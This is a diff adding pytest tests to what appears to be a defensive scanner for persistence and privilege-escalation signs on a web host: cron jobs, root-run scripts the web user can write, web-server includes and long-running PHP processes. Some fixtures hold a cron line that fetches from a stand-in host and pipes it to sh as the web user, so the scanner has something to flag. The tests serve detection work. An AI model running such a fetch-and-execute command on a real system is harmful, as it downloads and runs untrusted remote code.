@@ -192,6 +192,23 @@ def test_what_others_run_and_the_web_user_can_change(host, tmp_path, source, lin
     assert [sign.startswith("a cron job of another account") for sign in signs] == [True] * reported
 
 
+@pytest.mark.parametrize(
+    ("source", "line", "reported"),
+    [
+        ("/etc/cron.d/x:3", "* * * * * www-data curl -s http://x.test | sh", True),
+        ("/etc/crontab:3", "@daily root nice -n 10 sudo www-data curl http://x.test", True),
+        ("/etc/cron.d/x:3", "* * * * * root curl -s http://x.test", False),
+        ("/etc/cron.d/x:3", "* * * * * www-data php /usr/share/x.php", False),
+        ("/var/spool/cron/crontabs/root:3", "* * * * * curl -s http://x.test/?www-data", False),
+    ],
+)
+def test_what_fetches_something_as_the_web_user(host, source, line, reported):
+    host.jobs.append(Job(source, line))
+    path = source.removesuffix(":3")
+    signs = [f"a cron job that runs as the web user ({path}, line 3): {line}"] * reported
+    assert trace(host.inspect()).signs == signs
+
+
 def test_a_script_of_roots_that_an_acl_lets_the_web_user_write(host, tmp_path):
     script = theirs(tmp_path / "shop/cron.php")
     os.chown(script, 0, 0)
@@ -256,7 +273,29 @@ def test_innocent_files_in_a_home(host, tmp_path):
     theirs(host.home / ".composer/cache/x.json", "{}")
     theirs(host.home / ".config/composer/.htaccess", "Deny from all")
     theirs(host.home / ".ssh/known_hosts", "nas.example.org ssh-ed25519 AAAA")
-    assert trace(host.inspect()).signs == []
+    (tmp_path / "sshd_config").write_text("AuthorizedKeysFile none\n")
+    theirs(host.home / "none", "ssh-ed25519 AAAA")
+    found = trace(host.inspect())
+    assert found.signs == [] and not [gap for gap in found.gaps if str(host.home) in gap]
+
+
+def test_a_home_that_takes_too_long_is_a_gap(host, tmp_path, monkeypatch):
+    (host.home / ".config/systemd/user/x.d").mkdir(parents=True)
+    (tmp_path / "etc-of-root/profile.d").mkdir(parents=True)
+    monkeypatch.setattr(persistence, "_SECONDS", -1.0)
+    gaps = trace(host.inspect()).gaps
+    for what in (str(host.home), "what root runs"):
+        assert any(gap.startswith(f"{what}: Not everything was checked: the time") for gap in gaps)
+
+
+def test_where_an_account_is_at_home():
+    assert (persistence.home("root"), persistence.home("no-such-account")) == ("/root", "/nonexistent")
+
+
+def test_what_went_meanwhile_belongs_to_no_account(tmp_path):
+    assert not persistence._owned(str(tmp_path / "gone"), {os.getuid()})
+    assert persistence._owned(str(tmp_path), {os.getuid()})
+    assert not persistence._owned(str(tmp_path), {os.getuid() + 1})
 
 
 @pytest.mark.parametrize("place", ["linger", "incron"])
@@ -301,6 +340,27 @@ def test_what_an_ordinary_account_cannot_open_is_no_reason_to_end(host, tmp_path
     assert len(found.signs) == 1 and "1 directories or files could not be opened" in " ".join(found.gaps)
 
 
+def test_a_directory_that_goes_meanwhile_is_no_gap(host, tmp_path, monkeypatch):
+    gone = tmp_path / "etc-of-root/gone"
+    gone.mkdir(parents=True)
+    theirs(tmp_path / "etc-of-root/profile.d/x.sh")
+    listed = os.listdir
+
+    def list_directory(path):
+        if str(path) == str(gone):
+            raise FileNotFoundError(2, "No such file or directory", path)
+        return listed(path)
+
+    monkeypatch.setattr(os, "listdir", list_directory)
+    found = trace(host.inspect())
+    assert len(found.signs) == 1 and not [gap for gap in found.gaps if gap.startswith("what root runs")]
+
+
+def test_programs_that_could_not_all_be_seen_are_a_gap(host, monkeypatch):
+    monkeypatch.setattr(privileges, "programs", lambda: ([], "2 directories"))
+    assert "programs that run with another user's rights: 2 directories" in trace(host.inspect()).gaps
+
+
 def test_a_masked_unit_and_a_file_of_roots_are_no_signs(host, tmp_path):
     directory = tmp_path / "etc-of-root/systemd/system"
     directory.mkdir(parents=True)
@@ -331,6 +391,40 @@ def test_a_file_of_the_web_user_that_is_loaded_or_started(host, tmp_path, path, 
     (tmp_path / path).write_text(text.format(library=library))
     (sign,) = trace(host.inspect()).signs
     assert path in sign or str(library) in sign
+
+
+@pytest.mark.parametrize(("path", "limit"), [("php.ini", 1 << 20), ("units/x.service", 1 << 16)])
+def test_a_long_file_is_read_up_to_its_limit(host, tmp_path, path, limit):
+    library = theirs(tmp_path / "lib/x")
+    text = f"extension={library}\n" if path == "php.ini" else f"ExecStart={library}\n"
+    file = tmp_path / path
+    file.parent.mkdir(exist_ok=True)
+    file.write_text("#" * (limit - len(text) - 1) + f"\n{text}")
+    assert len(trace(host.inspect()).signs) == 1
+    file.write_text("#" * (limit - len(text) + 20) + f"\n{text}")
+    assert trace(host.inspect()).signs == [], "its end is not read"
+
+
+@pytest.mark.parametrize(
+    ("command", "started"),
+    [
+        ("/srv/a b c", ["/srv/a"]),
+        ("php -q /srv/x.php /srv/y", ["php", "/srv/x.php"]),
+        ("php", ["php"]),
+        ("X=1 nice -n 10 /srv/a", ["/srv/a"]),
+        ("timeout 30s flock /run/lock/x /srv/a", ["/srv/a"]),
+        ("flock -n -x /run/lock/x /srv/a /srv/b", ["/srv/a"]),
+        ("flock /run/lock/x", []),
+        ("flock", []),
+        ("if /srv/a; then /srv/b; fi", ["/srv/a", "/srv/b", "fi"]),
+        ("cat /x | (sh -e /srv/a) && ! /srv/b || /srv/c", ["cat", "sh", "/srv/a", "/srv/b", "/srv/c"]),
+        ("bash -x -c 'cd /x && exec /srv/a'", ["bash", "cd", "/srv/a"]),
+        ("/usr/bin/env python3 '/srv/a'", ["python3", "/srv/a"]),
+        ("", []),
+    ],
+)
+def test_what_a_command_line_starts(command, started):
+    assert persistence.starts(command) == started
 
 
 @pytest.mark.parametrize(
@@ -374,7 +468,7 @@ def test_what_the_web_server_includes_of_the_web_user_s(host, tmp_path, monkeypa
         f"include /etc/nginx/mime.types;\n# include {directory}/x.conf;\ninclude snippets/x.conf;\n"
     )
     assert trace(host.inspect()).signs == []
-    (ours / "b").write_text(line.format(directory) + "\n")
+    (ours / "b").write_text(f"# more\n{line.format(directory)}\n")
     (sign,) = trace(host.inspect()).signs
     assert sign.startswith("what the web server includes or loads as root") and str(directory) in sign
 
@@ -463,6 +557,24 @@ def test_workers_and_what_they_start_are_no_daemons(host, running):
     running(72, 999, PHP, hours=99)  # from outside of the container
     host.jobs.append(Job(CRONTAB, f"@hourly  php {host.root}/bin/console  messenger:consume"))
     assert trace(host.inspect()).signs == []
+
+
+@pytest.mark.parametrize(("seconds", "strange"), [(3600.0, False), (3600.5, True)])
+def test_for_how_long_a_page_may_run(host, running, monkeypatch, seconds, strange):
+    running(60, 41, PHP, unit="php8.4-fpm.service")
+    monkeypatch.setattr(persistence, "age", lambda _pid: seconds)
+    assert bool(trace(host.inspect()).signs) is strange
+
+
+def test_a_process_that_ended_meanwhile_is_no_sign(host, running):
+    host.processes.append(Process(2**22 + 1, 1, "php", WEB))
+    assert trace(host.inspect()).signs == []
+
+
+@pytest.mark.parametrize(("answer", "number"), [("70", 70), ("", 0), ("[not set]", 0)])
+def test_the_main_process_of_a_unit(monkeypatch, answer, number):
+    monkeypatch.setattr(persistence, "output", lambda argv: answer if argv[-1] == "queue.service" else "")
+    assert persistence.main_process("queue.service") == number
 
 
 def test_the_first_process_of_a_container_may_start_services_itself(host, running):
